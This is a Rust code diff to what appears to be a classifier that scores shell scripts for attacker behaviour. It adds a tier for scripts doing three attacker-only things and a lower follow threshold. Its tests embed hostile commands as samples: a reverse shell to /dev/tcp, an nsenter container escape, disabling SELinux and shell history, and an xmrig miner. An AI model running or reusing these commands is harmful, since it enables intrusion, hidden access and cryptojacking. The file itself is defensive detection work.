@@ -17,6 +17,8 @@ const CUT: &str = "opinion.floor.cut";
 const SUSPICIOUS: &str = "opinion.floor.suspicious";
 const ONE: &str = "opinion.floor.one";
 const MORE: &str = "opinion.floor.more";
+const THREE: &str = "opinion.floor.three";
+const LOOK: &str = "opinion.look";
 
 /// An input of the network.
 #[derive(Clone, Copy)]
@@ -43,11 +45,15 @@ pub(super) struct Opinion {
     late: f32,
     /// The least for what was not followed to its end.
     cut: f32,
-    /// The least for what does something that is seldom harmless, for what does one thing that only attackers do, and for what does
-    /// something else besides.
+    /// The least for what does something that is seldom harmless, for what does one thing that only attackers do, for what does
+    /// something else besides, and for what does three things that only attackers do.
     suspicious: f32,
     one: f32,
     more: f32,
+    three: f32,
+    /// From which probability of the first opinion on a script is followed; below the gate only what does three such things counts as asked
+    /// about.
+    look: f32,
 }
 
 impl Opinion {
@@ -97,6 +103,8 @@ impl Opinion {
             suspicious: floor(SUSPICIOUS, late.min(floor(ONE, late)?))?,
             one: floor(ONE, late)?,
             more: floor(MORE, late)?,
+            three: floor(THREE, floor(MORE, late)?)?,
+            look: if metadata(LOOK).is_some() { number(LOOK)?.min(number(GATE)?) } else { number(GATE)? },
         }))
     }
 
@@ -105,9 +113,14 @@ impl Opinion {
         self.gate
     }
 
-    /// Is it asked about a script of this probability?
-    pub(super) fn is_asked(&self, probability: f32) -> bool {
-        probability >= self.gate
+    /// Is a script of this probability followed?
+    pub(super) fn is_followed(&self, probability: f32) -> bool {
+        probability >= self.look
+    }
+
+    /// Is it asked about a script of this probability that does that?
+    pub(super) fn is_asked(&self, probability: f32, behaviour: &Behaviour) -> bool {
+        probability >= self.gate || self.is_followed(probability) && attacks(behaviour) >= 3
     }
 
     /// The logit of both opinions.
@@ -162,18 +175,23 @@ impl Opinion {
     /// The least that it says, whatever careful people write around what a script does: anybody can write that. And who makes a script too
     /// long to be followed must gain little by it.
     fn floor(&self, behaviour: &Behaviour) -> f32 {
-        let steps =
-            || behaviour.evidence.iter().map(|evidence| evidence.fact).filter(|fact| fact.is_of_attacks());
-        let is_attack = steps().any(|fact| fact.leaning() == Leaning::Attack);
-        let by_steps = match (is_attack, steps().take(2).count()) {
-            (_, 0) => f32::NEG_INFINITY,
-            (false, _) => self.suspicious,
-            (true, 1) => self.one,
-            (true, _) => self.more,
+        let steps = behaviour.evidence.iter().filter(|evidence| evidence.fact.is_of_attacks()).count();
+        let by_steps = match (attacks(behaviour), steps) {
+            (0, 0) => f32::NEG_INFINITY,
+            (0, _) => self.suspicious,
+            (1, 1) => self.one,
+            (1 | 2, _) => self.more,
+            _ => self.three,
         };
         let by_length = if behaviour.has(Fact::Cut) { self.cut } else { f32::NEG_INFINITY };
         by_steps.max(by_length)
     }
+}
+
+/// How many things it does that only attackers do.
+fn attacks(behaviour: &Behaviour) -> usize {
+    let is_attack = |fact: Fact| fact.leaning() == Leaning::Attack;
+    behaviour.evidence.iter().filter(|evidence| is_attack(evidence.fact)).count()
 }
 
 fn input(name: &str) -> Result<Input, String> {
@@ -252,6 +270,14 @@ mod tests {
         assert!((weighed(b"nsenter -t 1 -m sh; bash -i >& /dev/tcp/192.0.2.1/4 0>&1") - 2.0).abs() < 1e-6);
         assert!((weighed(b"unset HISTFILE; setenforce 0") - 0.375).abs() < 1e-6);
         assert!((weighed(b"unset HISTFILE; nsenter -t 1 -m sh") - 2.0).abs() < 1e-6);
+        let more = [(MORE, "2"), (THREE, "4")];
+        let opinion = read(&more).unwrap().unwrap();
+        let weighed = |text: &[u8]| opinion.weigh(&Behaviour::of(text)).0;
+        let two = &b"nsenter -t 1 -m sh; bash -i >& /dev/tcp/192.0.2.1/4 0>&1"[..];
+        assert!((weighed(two) - 2.0).abs() < 1e-6);
+        assert!((weighed(&[two, b"; xmrig -o stratum+tcp://p:1"].concat()) - 4.0).abs() < 1e-6);
+        let opinion = read(&floors).unwrap().unwrap();
+        let weighed = |text: &[u8]| opinion.weigh(&Behaviour::of(text)).0;
         // One that was cut, too, is no better than one that was not followed.
         let long = [&b"nsenter -t 1 -m sh\n"[..], &b"id\n".repeat(behaviour::TEXT_MAX)].concat();
         assert!((weighed(&long) - 0.75).abs() < 1e-6);
@@ -264,7 +290,16 @@ mod tests {
     #[test]
     fn what_it_is_asked_about_never_falls_below_the_gate() {
         let opinion = read(&[]).unwrap().unwrap();
-        assert!(opinion.is_asked(0.2) && !opinion.is_asked(0.1999));
+        let harmless = Behaviour::of(b"id");
+        assert!(opinion.is_asked(0.2, &harmless) && !opinion.is_followed(0.1999));
+        let opinion = read(&[(LOOK, "0.05")]).unwrap().unwrap();
+        let one = Behaviour::of(b"nsenter -t 1 -m sh");
+        let three = b"nsenter -t 1 -m sh; bash -i >& /dev/tcp/192.0.2.1/4 0>&1; xmrig -o stratum+tcp://p:1";
+        let three = Behaviour::of(three);
+        assert!(opinion.is_followed(0.05) && !opinion.is_followed(0.0499));
+        assert!(
+            opinion.is_asked(0.05, &three) && !opinion.is_asked(0.05, &one) && opinion.is_asked(0.2, &one)
+        );
         let gate = crate::explain::logit(0.2);
         assert!(opinion.logit(gate, -50.0) >= gate);
         assert!(opinion.logit(2.0, 1.0) > opinion.logit(2.0, 0.0));
